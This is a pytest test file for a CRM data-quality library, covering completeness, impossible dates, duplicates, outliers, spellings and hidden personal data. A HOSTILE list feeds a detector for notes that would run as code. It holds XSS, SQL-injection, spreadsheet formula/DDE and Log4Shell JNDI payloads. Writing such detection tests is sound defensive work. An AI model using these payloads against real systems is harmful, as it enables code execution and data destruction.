"""Quality: completeness, impossible and probably wrong rows, spellings; counts and never a personal value."""

from dataclasses import dataclass

import numpy as np
import pandas as pd
import pytest

from crmlab.crm import Crm
from crmlab.quality import (
    common_spelling,
    completeness_table,
    dirt_recall_table,
    follows,
    problem_table,
    spelling_key,
    spelling_table,
    table_overview,
)
from crmlab.schema import conform_table, empty_table

AS_OF = "2024-07-01"


class Tables:
    """Conformed tables in memory, in the order given: what `Crm` needs of a store."""

    def __init__(self, tables: dict[str, pd.DataFrame]) -> None:
        self.tables = {name: conform_table(name, frame) for name, frame in tables.items()}

    def read(self, name: str) -> pd.DataFrame:
        return self.tables[name] if name in self.tables else empty_table(name)

    def counts(self) -> dict[str, int]:
        return {name: len(frame) for name, frame in self.tables.items()}


def make_crm(own_columns: dict | None = None, **tables: pd.DataFrame) -> Crm:
    return Crm(Tables(tables), "test", own_columns=own_columns or {})


def times(*values: str | None) -> pd.Series:
    return pd.Series(pd.to_datetime(pd.Series(values), format="ISO8601"), dtype="datetime64[us]")


def make_leads(n: int, **columns: object) -> pd.DataFrame:
    base = {"lead_id": [f"L{k}" for k in range(n)], "status": "working"}
    return pd.DataFrame(base | {"created_at": times(*["2024-01-01"] * n)}).assign(**columns)


def make_events(
    lead_ids: list[str], ts: list[str], known_at: list[str] | None = None, **columns: object
) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "interaction_id": [f"I{k}" for k in range(len(lead_ids))],
            "lead_id": lead_ids,
            "ts": times(*ts),
            "known_at": times(*(known_at or ts)),
            "type": "call",
        }
    ).assign(**columns)


def found(crm: Crm, problem: str, **rest: str) -> dict[tuple[str, str], int]:
    """(table, column) → rows of the problems whose name contains `problem`."""
    table = problem_table(crm, as_of=rest.pop("as_of", AS_OF), **rest)
    rows = table[table["problem"].str.contains(problem)]
    return {(t, c): n for t, c, n in zip(rows["table"], rows["column"], rows["rows"], strict=True)}


# ── overview and completeness ────────────────────────────────────────────────────────────────────────────────────────


def test_overview_by_hand() -> None:
    leads = make_leads(3, created_at=times("2024-02-01", "2024-01-05", None))
    table = table_overview(make_crm(leads=leads))
    row = table.iloc[0].to_dict()
    assert (row["table"], row["rows"], row["key"], row["undated"]) == ("leads", 3, "lead_id", 1)
    assert (row["first"], row["last"]) == (pd.Timestamp("2024-01-05"), pd.Timestamp("2024-02-01"))
    assert len(table) == 1  # tables that hold nothing are not listed


def test_completeness_by_hand() -> None:
    leads = make_leads(
        5,
        created_at=times(*["2024-01-01"] * 4, "2024-08-01"),
        source=["web", " ", None, "web", "fair"],
        converted_at=times("2024-02-01", "2024-09-01", None, None, None),
        status=["converted", "converted", "new", "new", "new"],
        notes=["call me", None, None, None, None],
        x_page=["a", "b", None, None, None],
    )
    crm = make_crm({"x_page": {"type": "category", "known": "creation", "meaning": "Page"}}, leads=leads)
    table = completeness_table(crm, as_of=AS_OF).set_index("column")
    assert set(table["rows"]) == {4}  # the fifth lead was not known yet
    assert table.loc["source", ["filled", "distinct"]].tolist() == [0.5, 1]  # a blank is no value
    assert table.loc["converted_at", "filled"] == 0.25  # the conversion in September was not known yet
    assert table.loc["source", ["filled_converted", "filled_not_converted"]].tolist() == pytest.approx([1, 1 / 3])
    assert table.loc["notes", ["personal", "as_of_safe", "known"]].tolist() == [True, False, "today"]
    assert table.loc["x_page", ["kind", "known", "as_of_safe"]].tolist() == ["category", "created_at", True]
    assert table.loc["created_at", "kind"] == "time"
    assert list(table.index[:2]) == ["lead_id", "account_id"]


def test_a_column_filled_because_of_the_outcome_is_named() -> None:
    """As in MarketStar: nobody owns a lead that nobody has worked on."""
    hit = np.arange(200) < 50
    rng = np.random.default_rng(0)
    leads = make_leads(
        200,
        status=np.where(hit, "converted", "new"),
        converted_at=times(*["2024-02-01" if h else None for h in hit]),
        owner_id=[f"R{k % 3}" if hit[k] or k % 3 == 0 else None for k in range(200)],
        source=np.where(rng.random(200) < 0.5, "web", None),
        opportunity_id=[f"O{k}" if hit[k] else None for k in range(200)],
    )
    table = completeness_table(make_crm(leads=leads), as_of=AS_OF).set_index("column")
    # Neither chance gaps nor columns declared as known at the outcome are suspicious.
    assert table.index[table["tells_outcome"]].tolist() == ["owner_id"]
    assert table.loc["owner_id", ["filled_converted", "filled_not_converted"]].tolist() == pytest.approx([1, 1 / 3])


def test_outcome_of_a_source_without_dates_is_its_status() -> None:
    leads = make_leads(
        4,
        created_at=times(*[None] * 4),
        status=["converted", "disqualified", "new", "converted"],
        source=["web", None, None, "web"],
    )
    crm = make_crm(leads=leads)
    table = completeness_table(crm, as_of="").set_index("column")
    assert table.loc["source", ["rows", "filled_converted", "filled_not_converted"]].tolist() == [4, 1, 0]
    assert table.loc["created_at", "filled"] == 0
    assert found(crm, "no date of becoming known", as_of="") == {("leads", "created_at"): 4}


# ── problems ─────────────────────────────────────────────────────────────────────────────────────────────────────────


def test_dates_in_an_impossible_order() -> None:
    leads = make_leads(
        5,
        created_at=times("2024-01-10", "2024-01-10", "2024-01-10 23:59:59", "2024-01-10", "2024-01-10"),
        converted_at=times("2024-01-09", "2024-01-10", "2024-01-10 08:00", None, "2024-12-01"),
        disqualified_at=times(None, None, None, "2024-01-01", None),
        status=["converted", "converted", "converted", "disqualified", "converted"],
    )
    invoices = pd.DataFrame(
        {
            "invoice_id": ["V1", "V2"],
            "account_id": ["A1", "A1"],
            "issued_at": times("2024-02-01", "2024-02-01"),
            "due_at": times("2024-03-01", "2024-01-01"),
            "paid_at": times("2024-01-31", "2024-02-02"),
        }
    )
    crm = make_crm(leads=leads, invoices=invoices)
    assert found(crm, "before the one it must follow") == {
        ("leads", "converted_at before created_at"): 1,
        ("leads", "disqualified_at before created_at"): 1,
        ("invoices", "due_at before issued_at"): 1,
        ("invoices", "paid_at before issued_at"): 1,
    }
    table = problem_table(crm, as_of=AS_OF).set_index("column")
    assert table.loc["converted_at before created_at", "share"] == pytest.approx(1 / 3)  # of those with both dates seen


def test_follows_compares_days_where_no_time_of_day_is_known() -> None:
    earlier = times("2024-01-10 23:59:59", "2024-01-10 23:59:59", "2024-01-10 12:00", None)
    later = times("2024-01-10 08:00", "2024-01-09 08:00", "2024-01-10 08:00", "2024-01-01")
    assert follows(earlier, later).tolist() == [True, False, False, True]


def test_interactions_against_their_lead_and_their_entry() -> None:
    events = make_events(
        ["L0", "L0", "L0", "L9", "L1"],
        ["2023-12-31", "2024-01-02", "2024-01-05", "2023-01-01", "2024-02-01"],
        ["2024-01-01", "2024-01-03 00:00:01", "2024-01-04", "2023-01-01", "2024-08-01"],
    )
    crm = make_crm(leads=make_leads(2), interactions=events)
    # The last event is entered after as_of: this study does not see it. L9 is no lead: an orphan, not an order.
    assert found(crm, "before its lead or deal") == {("interactions", "ts (lead_id)"): 1}
    assert found(crm, "entered before it happened") == {("interactions", "known_at before ts"): 1}
    assert found(crm, "more than a day") == {("interactions", "known_at after ts"): 1}
    assert found(crm, "not there") == {("interactions", "lead_id"): 1}


def test_placeholders_and_dates_after_the_extraction() -> None:
    leads = make_leads(3, created_at=times("1970-01-01", "2024-01-01", "2024-06-01 10:00"))
    crm = make_crm(leads=leads)
    assert found(crm, "stands for no date") == {("leads", "created_at"): 1}
    assert found(crm, "after the extraction") == {}
    assert found(crm, "after the extraction", extracted_at="2024-06-01") == {("leads", "created_at"): 1}


def test_changes_after_closing() -> None:
    deals = pd.DataFrame(
        {
            "opportunity_id": ["O1", "O2"],
            "created_at": times("2024-01-01", "2024-01-01"),
            "closed_at": times("2024-03-01 12:00", None),
            "outcome": ["won", None],
            "stage": ["won", "quoted"],
        }
    )
    changes = pd.DataFrame(
        {
            "change_id": ["H1", "H2", "H3", "H4"],
            "entity": "opportunity",
            "entity_id": ["O1", "O1", "O1", "O2"],
            "field": ["amount", "stage", "amount", "amount"],
            "changed_at": times("2024-02-01", "2024-03-01 12:00", "2024-03-02 12:00", "2024-05-01"),
        }
    )
    # An impossible date of closing (before the creation) does not make everything else an edit after it.
    leads = make_leads(1, disqualified_at=times("2023-12-01"), converted_at=times("2024-04-01"), status="converted")
    lead_change = {"change_id": "H5", "entity": "lead", "entity_id": "L0", "field": "status"}
    changes = pd.concat([changes, pd.DataFrame([lead_change]).assign(changed_at=times("2024-03-01"))])
    crm = make_crm(opportunities=deals, changes=changes, leads=leads)
    assert found(crm, "after its lead or deal was closed") == {("changes", "amount of opportunities"): 1}
    assert found(crm, "contradict") == {("leads", "converted and disqualified"): 1}


def test_status_against_dates() -> None:
    leads = make_leads(
        5,
        status=["converted", "disqualified", "working", "disqualified", "new"],
        converted_at=times(None, "2024-02-01", "2024-02-01", None, None),
        disqualified_at=times(None, "2024-02-01", None, "2024-02-01", None),
    )
    deals = pd.DataFrame(
        {
            "opportunity_id": ["O1", "O2", "O3"],
            "created_at": times(*["2024-01-01"] * 3),
            "closed_at": times("2024-02-01", "2024-02-01", None),
            "outcome": [None, "won", "lost"],
            "stage": ["needs", "lost", "lost"],
        }
    )
    crm = make_crm(leads=leads, opportunities=deals)
    assert found(crm, "contradict") == {
        ("leads", "converted without converted_at"): 1,
        ("leads", "open, yet closed by its dates"): 1,
        ("leads", "converted and disqualified"): 1,
        ("opportunities", "outcome without closed_at"): 1,
        ("opportunities", "closed_at without outcome"): 1,
        ("opportunities", "stage against outcome"): 1,
    }
    # A source that never says when leads were given up contradicts nothing.
    undated = leads.assign(disqualified_at=times(*[None] * 5))
    assert ("leads", "disqualified without disqualified_at") not in found(make_crm(leads=undated), "contradict")


def test_probable_duplicates() -> None:
    leads = make_leads(
        9,
        created_at=times(
            "2024-01-01", "2024-01-15", "2024-01-16", "2024-03-01",  # C1: within 14 days, within 14 days of that, later
            "2024-01-01", "2024-01-02",  # no contact: same role at one account
            "2024-01-02", "2024-01-02", None,
        ),
        contact_id=["C1"] * 4 + [None] * 4 + ["C1"],
        account_id=["A1"] * 4 + ["A2", "A2", "A2", None, "A1"],
        job_position=["Buyer"] * 4 + ["Plant Manager", "plant-manager ", "Buyer", "Buyer", "Buyer"],
    )  # fmt: skip
    contacts = pd.DataFrame(
        {
            "contact_id": ["C1", "C2", "C3", "C4"],
            "account_id": ["A1", "A1", "A2", "A1"],
            "email": ["a@example.com", "A@example.com ", "a@example.com", None],
            "created_at": times(*["2024-01-01"] * 4),
        }
    )
    events = make_events(["L0", "L0", "L1"], ["2024-02-01"] * 3, ["2024-02-01", "2024-02-03", "2024-02-01"])
    crm = make_crm(leads=leads, contacts=contacts, interactions=events)
    assert found(crm, "probably the same") == {
        ("leads", "same person within 14 days"): 3,
        ("contacts", "same e-mail at the same account"): 1,
        ("interactions", "same in all but its identifier"): 1,
    }


def test_outliers_on_the_logarithm() -> None:
    rng = np.random.default_rng(0)
    employees = np.exp(rng.normal(4, 1, 300)).round() + 1
    employees[:3] = [5_000_000, 30_000_000, 0]  # zero says nothing about size
    crm = make_crm(leads=make_leads(300, employees=employees))
    assert found(crm, "far outside") == {("leads", "employees"): 2}
    tail = make_crm(leads=make_leads(300, employees=np.where(np.arange(300) < 9, 30_000_000, employees)))
    assert found(tail, "far outside") == {}  # three in a hundred: the tail of the column
    few = make_crm(leads=make_leads(40, employees=[*range(10, 49), 30_000_000]))
    assert found(few, "far outside") == {}  # one among forty proves nothing


HOSTILE = [
    "<script>alert(1)</script>",
    "<IMG src=x onerror=alert(1)>",
    '=HYPERLINK("http://x.example")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+cmd|x",
    "Robert'); DROP TABLE leads;--",
    "x' or '1'='1",
    "${jndi:ldap://x.example/a}",
    "=2+5",
]
HARMLESS = [
    "+39 02 1234567",
    "- richiamare lunedì",
    "=> inviata offerta",
    "@Marco chiamare",
    "costo < 3 e > 2",
    "D'Oro dell'anno",
    "-12 %",
    "o'clock; later",
    "costa 12 $ {sconto}",
]


@pytest.mark.parametrize(("texts", "expected"), [(HOSTILE, len(HOSTILE)), (HARMLESS, 0)])
def test_text_that_would_run_as_code(texts: list[str], expected: int) -> None:
    crm = make_crm(leads=make_leads(len(texts), notes=texts))
    assert sum(found(crm, "run as code").values()) == expected


def test_personal_data_in_the_wrong_place_is_counted_and_never_shown() -> None:
    leads = make_leads(3, source=["web", "from ada@example.com", "web"], notes=["ada@example.com"] * 3)
    crm = make_crm(leads=leads, contacts=secret_contacts())
    assert found(crm, "not declared personal") == {("leads", "source"): 1}
    tables = [
        problem_table(crm, as_of=AS_OF),
        completeness_table(crm, as_of=AS_OF),
        table_overview(crm),
        spelling_table(crm, as_of=AS_OF).drop(columns=["spelling", "same_as"]),  # categories, by declaration
    ]
    text = "\n".join(t.to_csv() for t in tables)
    for secret in ("ada@", "Lovelace", "Ada", "+39"):
        assert secret not in text


def secret_contacts() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "contact_id": ["C1", "C2"],
            "account_id": "A1",
            "first_name": ["Ada", "ada "],
            "last_name": ["Lovelace", "LOVELACE"],
            "email": ["ada@example.com"] * 2,
            "phone": ["+39 02 5550"] * 2,
            "tags": ["vip", "VIP"],
            "created_at": times("2024-01-01", "2024-01-01"),
        }
    )


def test_columns_without_history() -> None:
    leads = make_leads(2, owner_id=["R1", None], crm_score=[1.0, 2.0])
    own = {"x_step": {"type": "category", "known": "today", "meaning": "Next step"}}
    crm = make_crm(own, leads=leads.assign(x_step=["call", None]))
    today = found(crm, "only today")
    assert today == {
        ("leads", "status"): 2, ("leads", "crm_score"): 2, ("leads", "owner_id"): 1, ("leads", "x_step"): 1,
    }  # fmt: skip
    changes = pd.DataFrame(
        {
            "change_id": ["H1"],
            "entity": "lead",
            "entity_id": "L0",
            "field": "owner_id",
            "new_value": "R1",
            "changed_at": times("2024-01-01"),
        }
    )
    with_history = make_crm(own, leads=leads, changes=changes)
    assert ("leads", "owner_id") not in found(with_history, "only today")


def test_orphans_only_where_the_other_table_was_loaded() -> None:
    leads = make_leads(2, account_id=["A1", "A9"], owner_id=["R1", "R2"])
    accounts = pd.DataFrame({"account_id": ["A1"], "created_at": times("2024-01-01")})
    crm = make_crm(leads=leads, accounts=accounts)
    assert found(crm, "not there") == {("leads", "account_id"): 1}


def test_facts_after_as_of_and_row_order_change_nothing() -> None:
    leads = make_leads(40, converted_at=times(*["2023-12-01", None] * 20), status=["converted", "new"] * 20)
    leads = leads.assign(source=["web", "Web ", "fair", "web"] * 10)
    events = make_events(["L1", "L1"], ["2023-12-31", "2024-01-05"])
    later = make_leads(5, lead_id=[f"Z{k}" for k in range(5)], created_at=times(*["2024-07-01"] * 5), source="WEB")
    more_events = make_events(["L1"], ["2020-01-01"], ["2024-07-01"]).assign(interaction_id="Z1")
    crm = make_crm(leads=leads, interactions=events)
    more = make_crm(
        leads=pd.concat([later, leads]).sample(frac=1, random_state=0),
        interactions=pd.concat([more_events, events]),
    )
    for make in (problem_table, completeness_table, spelling_table):
        pd.testing.assert_frame_equal(make(more, as_of=AS_OF), make(crm, as_of=AS_OF))


def test_tables_are_left_as_they_were() -> None:
    crm = make_crm(leads=make_leads(5, source=["web", "Web", "web", None, " "]), contacts=secret_contacts())
    before = {name: crm[name].copy() for name in crm.counts()}
    for make in (problem_table, completeness_table, spelling_table):
        make(crm, as_of=AS_OF)
    for name, frame in before.items():
        pd.testing.assert_frame_equal(crm[name], frame)


def test_a_clean_or_empty_crm_gives_empty_tables_of_the_same_shape() -> None:
    empty = make_crm(leads=make_leads(1).iloc[:0])
    dirty = make_crm(leads=make_leads(3, source=["web", "Web", "web"]))
    for make in (problem_table, spelling_table):
        result = make(empty, as_of=AS_OF)
        assert result.empty
        assert result.dtypes.to_dict() == make(dirty, as_of=AS_OF).dtypes.to_dict()
    assert table_overview(empty).empty
    assert completeness_table(empty, as_of=AS_OF).empty
    before_all = completeness_table(dirty, as_of="2020-01-01")
    assert set(before_all["rows"]) == {0}
    assert before_all["filled"].isna().all()


# ── the demo's planted dirt ──────────────────────────────────────────────────────────────────────────────────────────


@dataclass(frozen=True)
class Planted:
    """What the demo's truth says about its dirt."""

    dirt: pd.DataFrame
    dirty_rows: pd.DataFrame


def test_planted_dirt_against_what_was_found() -> None:
    leads = make_leads(5, source=["Web form", "Web form", "web_form", "Web form", None], crm_score=[1.0] * 5)
    leads["created_at"] = times(*["2024-01-01"] * 4, "2024-08-01")
    dirt = pd.DataFrame(
        [
            ("source_spelling", "leads", 3, 5, 0.3),
            ("missing_source", "leads", 1, 5, 0.2),
            ("crm_score_edited_after_close", "leads", 1, 5, 0.1),
            ("next_step_edited_after_close", "leads", 1, 5, 0.1),
            ("gremlins", "leads", 2, 5, 0.4),
        ],
        columns=["kind", "table", "rows", "eligible", "rate_intended"],
    )
    rows = pd.DataFrame(
        [
            ("source_spelling", "leads", "L2"),
            ("source_spelling", "leads", "L3"),  # planted, but spelled like the others: not to be found
            ("source_spelling", "leads", "L4"),  # created after as_of
            ("missing_source", "leads", "L4"),
            ("crm_score_edited_after_close", "leads", "L0"),
            ("next_step_edited_after_close", "leads", "L0"),  # there is no such column here
            ("gremlins", "leads", "L0"),
            ("gremlins", "leads", "L1"),
        ],
        columns=["kind", "table", "row_id"],
    )
    crm = Crm(Tables({"leads": leads}), "test", truth=Planted(dirt, rows))
    table = dirt_recall_table(crm, as_of=AS_OF).set_index("kind")
    columns = ["planted", "found", "flagged"]
    assert table.loc["source_spelling", columns].tolist() == [2, 1, 1]
    assert table.loc["source_spelling", ["recall", "precision"]].tolist() == [0.5, 1.0]
    assert table.loc["missing_source", columns].tolist() == [0, 0, 0]
    assert table.loc["crm_score_edited_after_close", columns].tolist() == [1, 1, 0]
    assert table.loc["next_step_edited_after_close", ["found", "how"]].tolist() == [0, "not looked for"]
    assert table.loc["gremlins", ["planted", "found", "how"]].tolist() == [2, 0, "not looked for"]
    assert dirt_recall_table(make_crm(leads=leads), as_of=AS_OF).empty


@pytest.mark.truth
def test_the_checks_find_the_dirt_of_the_demo() -> None:
    from crmlab.demo import make_crm as simulate

    demo = simulate(n_leads=1_500, seed=3)
    own = {"x_next_step": {"type": "category", "known": "today", "meaning": "Next step"}}
    crm = Crm(Tables(demo.tables), "demo", own_columns=own, truth=demo.truth)
    table = dirt_recall_table(crm, as_of="2025-01-06")
    assert set(zip(table["kind"], table["table"], strict=True)) == set(
        zip(demo.truth.dirt["kind"], demo.truth.dirt["table"], strict=True)
    )
    assert "not looked for" not in set(table["how"])
    enough = table[table["planted"] >= 5].set_index(["kind", "table"])
    outliers = enough.index.get_level_values("kind") == "outlier_employees"  # some stay inside what firms can have
    assert enough["recall"][~outliers].min() >= 0.95
    assert enough["precision"][~outliers].dropna().min() >= 0.9
    assert enough["recall"].min() >= 0.5


# ── spelling ─────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("first", "second", "same"),
    [
        ("Web form", "webform ", True),
        ("Web-Form", "WEB_FORM", True),
        ("Trade fair", "Trade  fair.", True),
        ("10-49 people", "1049 people", False),
        ("1-10", "110", False),
        ("C", "C++", False),
        ("<10 people", ">10 people", False),
        ("Straße", "STRASSE", True),
        ("R&D", "RD", False),
        ("web", "fair", False),
    ],
)
def test_spelling_key(first: str, second: str, same: bool) -> None:
    assert (spelling_key(first) == spelling_key(second)) is same


def test_common_spelling_takes_the_most_frequent_one() -> None:
    values = pd.Series(["web form", "Web form", "Web form", None, "webform", "fair"], dtype="str")
    before = values.copy()
    assert common_spelling(values).fillna("-").tolist() == ["Web form", "Web form", "Web form", "-", "Web form", "fair"]
    pd.testing.assert_series_equal(values, before)
    tie = pd.Series(["web", "Web"], dtype="str")
    assert common_spelling(tie).tolist() == common_spelling(tie[::-1]).tolist() == ["Web", "Web"]


def test_spelling_table_lists_the_rarer_spellings() -> None:
    leads = make_leads(6, source=["Web form", "Web form", "web-form", "Webform ", "fair", None])
    reps = pd.DataFrame({"rep_id": ["R1", "R2"], "contract_status": ["sick leave", "Sick leave"]})
    reps["hired_at"] = times("2020-01-01", "2020-01-01")
    table = spelling_table(make_crm(leads=leads, contacts=secret_contacts(), reps=reps), as_of=AS_OF)
    assert table.to_numpy().tolist() == [
        ["leads", "source", "Webform ", 1, "Web form"],
        ["leads", "source", "web-form", 1, "Web form"],
    ]
    assert found(make_crm(leads=leads), "spelled differently") == {("leads", "source"): 2}
